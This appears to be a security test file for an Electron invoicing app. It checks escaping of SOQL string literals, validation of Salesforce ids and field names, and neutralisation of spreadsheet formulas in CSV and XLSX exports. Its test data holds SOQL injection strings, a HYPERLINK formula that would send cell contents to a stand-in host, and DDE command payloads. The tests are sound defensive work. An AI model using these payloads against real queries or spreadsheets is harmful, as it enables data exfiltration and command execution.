import { namespaces } from '../../electron/contract/i18n/catalogue';
import { createI18n } from '../../electron/contract/i18n/create-i18n';
import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { parseQuery } from '@jetstreamapp/soql-parser-js';
import { afterAll, describe, expect, it } from 'vitest';
import { channels, type InvoiceRow } from '../../electron/contract';
import { columnLabels } from '../../electron/core/export/export-cells';
import { exportInvoices } from '../../electron/core/export/export-invoices';
import { assertIdentifier, assertRecordId, byIdQuery, soqlString } from '../../electron/core/invoices/sync/soql';
import { RecordingEvents, ScriptedSaveDialog, tempDir } from '../support/test-ports';
import { parseCsv } from '../support/csv';

const englishT = createI18n('en').getFixedT('en', namespaces);

/**
 * Injection through data: user text into SOQL, and record text into spreadsheets.
 * Search and filters never reach SOQL at all (they run in the renderer on the cached invoices:
 * tests/security/renderer-session.test.ts shows the org receives no query while the user searches).
 */

describe('SOQL', () => {
  it('no channel carries search or filter text to the main process (but the words of an XLSX Summary sheet)', () => {
    const keys = Object.entries(channels).flatMap(([name, channel]) => ('shape' in channel.input ? Object.keys(channel.input.shape as object).map((key) => `${name}.${key}`) : []));
    // invoices.export's `filters` are the workspace's filter chips as words ("Status: Posted"), written as text into the
    // XLSX Summary sheet (electron/core/export/summary-sheet.ts) and nowhere else: an export reads the offline copy and
    // sends Salesforce no query at all. A saved view's `state` (views.save) holds the search and filters too, as data the
    // core stores and gives back to the window (electron/core/views/); no query is built from it.
    const allowed = ['invoices.export.filters'];
    expect(keys.filter((key) => /search|filter|query|soql|where|text|term/i.test(key.split('.').at(-1)!) && !allowed.includes(key))).toEqual([]);
    expect(keys).toContain('invoices.export.filters');
  });

  it('a string literal built by soqlString stays one literal whatever it holds (quotes, backslashes, %, _, newlines)', () => {
    const hostile = fc.oneof(
      fc.string({ unit: fc.constantFrom("'", '\\', '"', '%', '_', '\n', '\r', '\t', ' ', 'a', 'OR', '=', ')', '(') }),
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom("' OR Name != '", "\\' OR Id != \\'", "x'--", "%' OR Name LIKE '%", "a\\\\' OR '1'='1"),
    );
    fc.assert(
      fc.property(hostile, (text) => {
        // The org's SOQL parser (soql-parser-js, the oracle here) cannot lex U+2028/U+2029 inside a literal:
        // such a query fails closed (checked below), it cannot inject.
        fc.pre(!/[\u2028\u2029]/.test(text));
        const query = parseQuery(`SELECT Id FROM Invoice WHERE Name = ${soqlString(text)} LIMIT 5`);
        expect(query.where?.left).toMatchObject({ field: 'Name', operator: '=', literalType: 'STRING' });
        const where = query.where as unknown as Record<string, unknown>;
        expect(where.operator).toBeUndefined();
        expect(where.right).toBeUndefined();
        expect(query.limit).toBe(5);
        expect(unquote(String((query.where!.left as { value: string }).value))).toBe(text);
      }),
      { numRuns: 3_000 },
    );
    expect(() => parseQuery(`SELECT Id FROM Invoice WHERE Name = ${soqlString("\u2028' OR Name != '")} LIMIT 5`)).toThrow();
  });

  it('record ids and field names that are not Salesforce names never reach a query', () => {
    for (const id of ["a0G' OR Id != '", 'a0G000000000001AAA\n', '%', '_________________', "a0G00000000000'"]) {
      expect(() => assertRecordId(id)).toThrow(expect.objectContaining({ code: 'INVALID_INPUT' }));
      expect(() => byIdQuery('Invoice', ['Id'], id)).toThrow(expect.objectContaining({ code: 'INVALID_INPUT' }));
    }
    for (const name of ['Name, (SELECT Id FROM Users)', 'Id FROM User --', 'Name\n', "Name'", 'Amount__c%']) {
      expect(() => assertIdentifier(name)).toThrow(expect.objectContaining({ code: 'INVALID_INPUT' }));
    }
  });
});

/** Inverse of soqlString, by SOQL's escaping rules. */
function unquote(literal: string): string {
  const escapes: Record<string, string> = { n: '\n', r: '\r', t: '\t', b: '\b', f: '\f', '"': '"', "'": "'", '\\': '\\' };
  return literal.slice(1, -1).replace(/\\(.)/gs, (_match, char: string) => escapes[char] ?? `\\${char}`);
}

describe('formula injection in exports', () => {
  const temp = tempDir();
  afterAll(() => temp.remove());
  const hostile = ['=HYPERLINK("https://evil.test/?"&A1,"Click")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1'];
  const row = (index: number, text: string): InvoiceRow => ({
    id: `a0G00000000000${String(index).padStart(4, '0')}`,
    number: text,
    customer: text,
    invoiceDate: '2026-01-01',
    dueDate: '2026-02-01',
    status: text,
    total: -12.5,
    balance: -12.5,
    currency: 'EUR',
    lastModified: null,
  });
  const rows = [...hostile.map((text, index) => row(index, text)), row(99, 'Acme = Co'), row(98, 'Line one\n=2+2')];
  const request = (format: 'csv' | 'xlsx') => ({ format, columns: ['number', 'customer', 'status', 'total'] as const, ids: rows.map((r) => r.id), asOf: '2026-03-01' });

  async function exportTo(format: 'csv' | 'xlsx'): Promise<string> {
    const path = join(temp.dir, `invoices.${format}`);
    const result = await exportInvoices({ ...request(format), columns: [...request(format).columns] }, new Map(rows.map((r) => [r.id, r])), {
      t: englishT, saveDialog: new ScriptedSaveDialog(path),
      events: new RecordingEvents(),
    });
    expect(result).toEqual({ path, rows: rows.length });
    return path;
  }

  it('CSV: every text cell that starts with = + - @ tab or CR starts with an apostrophe; amounts stay numbers', async () => {
    const records = parseCsv(readFileSync(await exportTo('csv'), 'utf8').replace(/^\uFEFF/, ''));
    expect(records[0]).toEqual(request('csv').columns.map((column) => columnLabels(englishT)[column]));
    for (const [index, text] of hostile.entries()) {
      if (!/[\r\n]/.test(text)) expect(records[index + 1]).toEqual([`'${text}`, `'${text}`, `'${text}`, '-12.5']);
    }
    expect(records).toContainEqual(['Acme = Co', 'Acme = Co', 'Acme = Co', '-12.5']);
  });

  // A bare CR or LF inside a cell must be quoted: Excel would otherwise break the row there and the text
  // after the break would start a new cell, past the apostrophe ("'\r=1+1" → a live "=1+1").
  it('CSV: a line break inside a cell stays inside its quoted cell, so no cell after it starts a formula', async () => {
    const records = parseCsv(readFileSync(await exportTo('csv'), 'utf8').replace(/^\uFEFF/, ''));
    expect(records).toHaveLength(rows.length + 1);
    expect(records[hostile.indexOf('\r=1+1') + 1]).toEqual(["'\r=1+1", "'\r=1+1", "'\r=1+1", '-12.5']);
    expect(records.at(-1)).toEqual(['Line one\n=2+2', 'Line one\n=2+2', 'Line one\n=2+2', '-12.5']);
    for (const cell of records.flat()) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('XLSX: the same cells are text with the apostrophe, never formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(await exportTo('xlsx'));
    const sheet = workbook.worksheets[0]!;
    let formulas = 0;
    sheet.eachRow((sheetRow) => sheetRow.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas++)));
    expect(formulas).toBe(0);
    for (const [index, text] of hostile.entries()) {
      const cells = [1, 2, 3].map((column) => sheet.getRow(index + 2).getCell(column).value);
      // XML turns a carriage return into a line feed; the apostrophe still comes first.
      const expected = `'${text.replace('\r', '\n')}`;
      expect(cells).toEqual([expected, expected, expected]);
      expect(sheet.getRow(index + 2).getCell(4).value).toBe(-12.5);
    }
  });

  // Exports hold invoices: not readable by other local users.
  it('exported files are created owner-only (0600)', async () => {
    for (const format of ['csv', 'xlsx'] as const) {
      const path = await exportTo(format);
      expect(statSync(path).mode & 0o777, format).toBe(0o600);
    }
  });
});
